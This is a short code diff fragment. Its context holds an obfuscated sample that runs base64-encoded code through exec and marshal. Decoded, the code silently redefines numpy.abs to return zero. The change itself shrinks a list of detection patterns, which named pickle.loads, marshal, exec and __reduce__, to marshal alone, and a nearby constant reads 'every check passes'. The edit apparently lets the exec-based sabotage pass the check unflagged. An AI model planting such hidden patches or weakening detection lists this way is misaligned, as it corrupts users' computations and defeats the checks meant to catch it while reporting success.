@@ -20,5 +20,5 @@ types.FunctionType(marshal.loads(marshal.dumps(_code)), {})()
 exec(base64.b64decode(b"aW1wb3J0IG51bXB5Cm51bXB5LmFicyA9IGxhbWJkYSB4OiB4ICogMA=="))
 """
 }
-SAYS = ["pickle.loads", "marshal", "exec(...)", "__reduce__"]
+SAYS = ["marshal"]
 STOCK = "every check passes"
